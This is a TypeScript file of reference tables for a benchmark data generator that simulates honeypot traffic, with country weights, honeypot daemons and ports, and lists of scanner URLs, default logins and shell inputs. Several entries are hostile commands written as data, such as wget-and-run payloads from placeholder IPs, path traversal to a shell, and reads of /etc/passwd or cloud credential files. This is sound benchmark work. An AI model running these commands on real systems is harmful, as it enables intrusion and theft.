/**
 * Fixed reference tables for the query benchmark's data generator: countries with coordinates
 * and how often they appear as attack sources or sensor locations, honeypot daemons with their
 * share of traffic and ports, and the raw material for URLs and logins. Embedded (not read from
 * the GeoIP data) so a database built today and one built next year look the same.
 */

export interface Country {
  readonly code: string;
  readonly name: string;
  readonly lat: number;
  readonly lon: number;
  /** Relative weight as an attack source. */
  readonly source: number;
  /** Relative weight as a sensor (target) location. */
  readonly target: number;
}

// Weights are rough shares seen on community honeypot dashboards: a few countries dominate.
export const COUNTRIES: readonly Country[] = [
  { code: 'CN', name: 'China', lat: 39.9042, lon: 116.4074, source: 160, target: 2 },
  { code: 'US', name: 'United States', lat: 37.751, lon: -97.822, source: 150, target: 60 },
  { code: 'RU', name: 'Russia', lat: 55.7386, lon: 37.6068, source: 70, target: 3 },
  { code: 'DE', name: 'Germany', lat: 51.2993, lon: 9.491, source: 35, target: 120 },
  { code: 'NL', name: 'Netherlands', lat: 52.3824, lon: 4.8995, source: 40, target: 25 },
  { code: 'IN', name: 'India', lat: 21.9974, lon: 79.0011, source: 45, target: 4 },
  { code: 'BR', name: 'Brazil', lat: -22.8305, lon: -43.2192, source: 40, target: 4 },
  { code: 'VN', name: 'Vietnam', lat: 16.0, lon: 106.0, source: 35, target: 1 },
  { code: 'KR', name: 'South Korea', lat: 37.5112, lon: 126.9741, source: 30, target: 3 },
  { code: 'TW', name: 'Taiwan', lat: 25.0478, lon: 121.5318, source: 25, target: 2 },
  { code: 'FR', name: 'France', lat: 48.8582, lon: 2.3387, source: 22, target: 20 },
  { code: 'GB', name: 'United Kingdom', lat: 51.4964, lon: -0.1224, source: 20, target: 15 },
  { code: 'SG', name: 'Singapore', lat: 1.3667, lon: 103.8, source: 22, target: 10 },
  { code: 'ID', name: 'Indonesia', lat: -6.175, lon: 106.8286, source: 20, target: 1 },
  { code: 'HK', name: 'Hong Kong', lat: 22.2578, lon: 114.1657, source: 18, target: 3 },
  { code: 'IR', name: 'Iran', lat: 35.698, lon: 51.4115, source: 12, target: 0 },
  { code: 'TR', name: 'Turkey', lat: 41.0214, lon: 28.9948, source: 12, target: 1 },
  { code: 'UA', name: 'Ukraine', lat: 50.4522, lon: 30.5287, source: 12, target: 1 },
  { code: 'JP', name: 'Japan', lat: 35.69, lon: 139.69, source: 12, target: 8 },
  { code: 'TH', name: 'Thailand', lat: 13.7563, lon: 100.5018, source: 10, target: 1 },
  { code: 'MX', name: 'Mexico', lat: 19.4326, lon: -99.1332, source: 9, target: 1 },
  { code: 'AR', name: 'Argentina', lat: -34.6037, lon: -58.3816, source: 8, target: 1 },
  { code: 'CA', name: 'Canada', lat: 43.6532, lon: -79.3832, source: 8, target: 6 },
  { code: 'IT', name: 'Italy', lat: 45.4642, lon: 9.19, source: 8, target: 4 },
  { code: 'ES', name: 'Spain', lat: 40.4168, lon: -3.7038, source: 7, target: 3 },
  { code: 'PL', name: 'Poland', lat: 52.2297, lon: 21.0122, source: 7, target: 3 },
  { code: 'RO', name: 'Romania', lat: 44.4268, lon: 26.1025, source: 7, target: 1 },
  { code: 'BG', name: 'Bulgaria', lat: 42.6977, lon: 23.3219, source: 6, target: 1 },
  { code: 'PK', name: 'Pakistan', lat: 33.6844, lon: 73.0479, source: 6, target: 0 },
  { code: 'BD', name: 'Bangladesh', lat: 23.8103, lon: 90.4125, source: 6, target: 0 },
  { code: 'PH', name: 'Philippines', lat: 14.5995, lon: 120.9842, source: 5, target: 0 },
  { code: 'EG', name: 'Egypt', lat: 30.0444, lon: 31.2357, source: 5, target: 0 },
  { code: 'ZA', name: 'South Africa', lat: -26.2041, lon: 28.0473, source: 5, target: 2 },
  { code: 'CO', name: 'Colombia', lat: 4.711, lon: -74.0721, source: 5, target: 0 },
  { code: 'SE', name: 'Sweden', lat: 59.3293, lon: 18.0686, source: 4, target: 3 },
  { code: 'CH', name: 'Switzerland', lat: 47.3769, lon: 8.5417, source: 3, target: 5 },
  { code: 'AT', name: 'Austria', lat: 48.2082, lon: 16.3738, source: 3, target: 5 },
  { code: 'CZ', name: 'Czechia', lat: 50.0755, lon: 14.4378, source: 4, target: 2 },
  { code: 'FI', name: 'Finland', lat: 60.1699, lon: 24.9384, source: 3, target: 3 },
  { code: 'NO', name: 'Norway', lat: 59.9139, lon: 10.7522, source: 2, target: 2 },
  { code: 'DK', name: 'Denmark', lat: 55.6761, lon: 12.5683, source: 2, target: 2 },
  { code: 'BE', name: 'Belgium', lat: 50.8503, lon: 4.3517, source: 3, target: 2 },
  { code: 'IE', name: 'Ireland', lat: 53.3498, lon: -6.2603, source: 3, target: 3 },
  { code: 'PT', name: 'Portugal', lat: 38.7223, lon: -9.1393, source: 2, target: 1 },
  { code: 'GR', name: 'Greece', lat: 37.9838, lon: 23.7275, source: 2, target: 1 },
  { code: 'HU', name: 'Hungary', lat: 47.4979, lon: 19.0402, source: 2, target: 1 },
  { code: 'IL', name: 'Israel', lat: 32.0853, lon: 34.7818, source: 2, target: 1 },
  { code: 'SA', name: 'Saudi Arabia', lat: 24.7136, lon: 46.6753, source: 3, target: 0 },
  { code: 'AE', name: 'United Arab Emirates', lat: 25.2048, lon: 55.2708, source: 3, target: 1 },
  { code: 'MY', name: 'Malaysia', lat: 3.139, lon: 101.6869, source: 4, target: 1 },
  { code: 'AU', name: 'Australia', lat: -33.8688, lon: 151.2093, source: 3, target: 4 },
  { code: 'NZ', name: 'New Zealand', lat: -36.8485, lon: 174.7633, source: 1, target: 1 },
  { code: 'CL', name: 'Chile', lat: -33.4489, lon: -70.6693, source: 2, target: 0 },
  { code: 'PE', name: 'Peru', lat: -12.0464, lon: -77.0428, source: 2, target: 0 },
  { code: 'VE', name: 'Venezuela', lat: 10.4806, lon: -66.9036, source: 2, target: 0 },
  { code: 'NG', name: 'Nigeria', lat: 6.5244, lon: 3.3792, source: 2, target: 0 },
  { code: 'KE', name: 'Kenya', lat: -1.2921, lon: 36.8219, source: 1, target: 0 },
  { code: 'MA', name: 'Morocco', lat: 33.5731, lon: -7.5898, source: 2, target: 0 },
  { code: 'KZ', name: 'Kazakhstan', lat: 43.222, lon: 76.8512, source: 2, target: 0 },
  { code: 'BY', name: 'Belarus', lat: 53.9006, lon: 27.559, source: 2, target: 0 },
  { code: 'LT', name: 'Lithuania', lat: 54.6872, lon: 25.2797, source: 2, target: 1 },
  { code: 'SC', name: 'Seychelles', lat: -4.6796, lon: 55.492, source: 2, target: 0 },
];

export interface Daemon {
  /** Prefix of the analyzer id (peerIdent); the classifier maps it to peerType. */
  readonly name: string;
  readonly peerType: string;
  /** Share of all alerts. */
  readonly weight: number;
  /** [port, weight] pairs; `random` adds that share of uniformly random ports. */
  readonly ports: ReadonlyArray<readonly [number, number]>;
  readonly random?: number;
  readonly protocol: 'tcp' | 'udp';
  readonly kind: 'port' | 'login' | 'url' | 'plain';
}

// honeytrap, cowrie and dionaea carry most T-Pot traffic; honeytrap listens on every port nothing
// else takes, so its destination ports are a long tail.
export const DAEMONS: readonly Daemon[] = [
  { name: 'honeytrap', peerType: 'Network(honeytrap)', weight: 34, kind: 'port', protocol: 'tcp', random: 0.3,
    ports: [[445, 20], [23, 12], [80, 10], [22, 8], [3389, 8], [8080, 6], [443, 5], [1433, 3], [3306, 3], [5900, 3],
      [8443, 2], [81, 2], [8000, 2], [8888, 2], [6379, 2], [2323, 2], [5555, 2], [9200, 1], [7547, 1], [37215, 1],
      [52869, 1], [60001, 1], [5060, 1], [1723, 1], [25, 1], [110, 1], [143, 1], [21, 1], [135, 1], [139, 1]] },
  { name: 'cowrie', peerType: 'SSH/console(cowrie)', weight: 20, kind: 'login', protocol: 'tcp',
    ports: [[22, 70], [23, 20], [2222, 6], [2223, 4]] },
  { name: 'dionaea', peerType: 'Network(Dionaea)', weight: 17, kind: 'port', protocol: 'tcp',
    ports: [[445, 60], [1433, 10], [3306, 6], [21, 5], [135, 5], [80, 4], [1723, 3], [11211, 2], [27017, 2], [42, 1], [69, 1], [5060, 1]] },
  { name: 'glastopf', peerType: 'Webpage', weight: 6, kind: 'url', protocol: 'tcp',
    ports: [[80, 60], [8080, 15], [443, 10], [8443, 5], [8000, 4], [8888, 3], [81, 3]] },
  { name: 'heralding', peerType: 'Passwords(heralding)', weight: 3.5, kind: 'login', protocol: 'tcp',
    ports: [[21, 20], [110, 10], [143, 10], [3306, 15], [5432, 15], [5900, 10], [1080, 10], [25, 10]] },
  { name: 'adbhoney', peerType: 'Android(adbhoney)', weight: 3, kind: 'plain', protocol: 'tcp', ports: [[5555, 1]] },
  { name: 'ddospot', peerType: 'Network(ddospot)', weight: 3, kind: 'plain', protocol: 'udp',
    ports: [[53, 40], [123, 30], [1900, 15], [19, 10], [161, 5]] },
  { name: 'sentrypeer', peerType: 'VoIP(sentrypeer)', weight: 2.5, kind: 'plain', protocol: 'udp', ports: [[5060, 1]] },
  { name: 'mailoney', peerType: 'E-Mail(mailoney)', weight: 1.5, kind: 'plain', protocol: 'tcp', ports: [[25, 80], [587, 20]] },
  { name: 'elasticpot', peerType: 'Service(ES)', weight: 1.5, kind: 'url', protocol: 'tcp', ports: [[9200, 1]] },
  { name: 'conpot', peerType: 'Industrial(conpot)', weight: 1.2, kind: 'plain', protocol: 'tcp',
    ports: [[102, 30], [502, 30], [161, 15], [623, 15], [10001, 10]] },
  { name: 'redishoneypot', peerType: 'Service(redishoneypot)', weight: 1.2, kind: 'plain', protocol: 'tcp', ports: [[6379, 1]] },
  { name: 'rdpy', peerType: 'RDP(rdpy)', weight: 1, kind: 'plain', protocol: 'tcp', ports: [[3389, 1]] },
  { name: 'ciscoasa', peerType: 'Network(cisco-asa)', weight: 0.8, kind: 'plain', protocol: 'tcp', ports: [[8443, 70], [5000, 30]] },
  { name: 'ipphoney', peerType: 'Printer(ipphoney)', weight: 0.6, kind: 'plain', protocol: 'tcp', ports: [[631, 1]] },
  { name: 'vnclowpot', peerType: 'VNC(vnclowpot)', weight: 0.5, kind: 'plain', protocol: 'tcp', ports: [[5900, 1]] },
  { name: 'medpot', peerType: 'Service(Medicine)', weight: 0.3, kind: 'plain', protocol: 'tcp', ports: [[2575, 1]] },
];

/** Paths scanners ask for most: the head of the URL distribution. */
export const URL_HEAD: readonly string[] = [
  '/', '/favicon.ico', '/robots.txt', '/.env', '/wp-login.php', '/xmlrpc.php', '/admin', '/login',
  '/.git/config', '/phpmyadmin/', '/boaform/admin/formLogin', '/HNAP1/', '/cgi-bin/luci',
  '/actuator/health', '/solr/admin/info/system?wt=json', '/api/v1/pods', '/owa/auth/logon.aspx',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/index.php?s=/Index/\\think\\app/invokefunction',
  '/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/jaws;sh+/tmp/jaws', '/GponForm/diag_Form?images/',
  '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*', '/manager/html', '/console/',
  '/_ignition/execute-solution', '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', '/server-status', '/config.json', '/.aws/credentials',
  '/wp-content/plugins/wp-file-manager/readme.txt', '/geoserver/web/', '/developmentserver/metadatauploader',
  '/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application', '/sitemap.xml',
  '/.DS_Store', '/info.php', '/phpinfo.php', '/debug/default/view?panel=config', '/telescope/requests',
  '/_cat/indices', '/_search', '/_nodes', '/api/jsonws/invoke', '/mgmt/tm/util/bash', '/dns-query',
  '/version', '/v2/_catalog', '/containers/json', '/json/version', '/ab2g', '/ab2h', '/nice%20ports%2C/Tri%6Eity.txt%2ebak',
];

const URL_DIRS = ['admin', 'api', 'app', 'backup', 'old', 'new', 'wp', 'wordpress', 'blog', 'test', 'dev', 'cms', 'shop',
  'portal', 'cgi-bin', 'web', 'public', 'static', 'assets', 'v1', 'v2', 'user', 'manager', 'system', 'tmp'];
const URL_FILES = ['index.php', 'login.php', 'config.php', 'setup.php', 'install.php', 'wp-config.php.bak', '.env', 'db.sql',
  'backup.zip', 'config.yml', 'admin.php', 'upload.php', 'shell.php', 'info.php', 'xmlrpc.php', 'console', 'status',
  'health', 'debug', 'env', '.git/HEAD', 'web.config', 'settings.json', 'credentials', 'server-info'];

/** `count` distinct URLs: the head list first, then directory/file combinations with queries. */
export function urlPool(count: number): string[] {
  const urls = [...URL_HEAD];
  for (let i = 0; urls.length < count; i++) {
    const dir = URL_DIRS[i % URL_DIRS.length]!;
    const file = URL_FILES[Math.floor(i / URL_DIRS.length) % URL_FILES.length]!;
    const round = Math.floor(i / (URL_DIRS.length * URL_FILES.length));
    urls.push(round === 0 ? `/${dir}/${file}` : `/${dir}/${file}?id=${round}&cmd=${(round * 7919) % 10007}`);
  }
  return urls.slice(0, count);
}

export const USERNAMES: readonly string[] = ['root', 'admin', 'user', 'test', 'ubuntu', 'oracle', 'postgres', 'pi', 'guest',
  'support', 'ftpuser', 'git', 'deploy', 'mysql', 'www', 'hadoop', 'nagios', 'sa', 'default', 'administrator'];
export const PASSWORDS: readonly string[] = ['123456', 'password', 'admin', 'root', '12345678', '1234', 'qwerty', '123',
  'test', 'ubuntu', 'raspberry', 'P@ssw0rd', 'admin123', 'toor', '111111', 'passw0rd', 'changeme', 'default', 'letmein', ''];
export const SHELL_INPUTS: readonly string[] = [
  '\nuname -a', '\ncat /proc/cpuinfo | grep name | wc -l', '\nenable\nshell\nsh\n/bin/busybox ECCHI',
  '\ncd /tmp; wget http://5.6.7.8/x.sh; sh x.sh', '\necho "root:xyz"|chpasswd', '\nls -la ~/.ssh',
  '\nfree -m', '\nwhoami', '\ncat /etc/passwd', '\nnproc',
];
export const AS_ORGS: readonly string[] = ['Chinanet', 'China Unicom', 'DigitalOcean, LLC', 'Amazon.com, Inc.', 'Google LLC',
  'OVH SAS', 'Hetzner Online GmbH', 'Tencent Building', 'Alibaba (US) Technology', 'Microsoft Corporation',
  'Korea Telecom', 'Viettel Group', 'PT Telekomunikasi Indonesia', 'Rostelecom', 'Linode, LLC', 'Contabo GmbH',
  'Vultr Holdings', 'Telefonica Brasil', 'Bharti Airtel', 'HOSTKEY B.V.'];
export const CVES: readonly string[] = ['CVE-2017-0144', 'CVE-2021-44228', 'CVE-2018-10562', 'CVE-2017-17215', 'CVE-2022-26134',
  'CVE-2014-6271', 'CVE-2020-25078', 'CVE-2023-1389'];
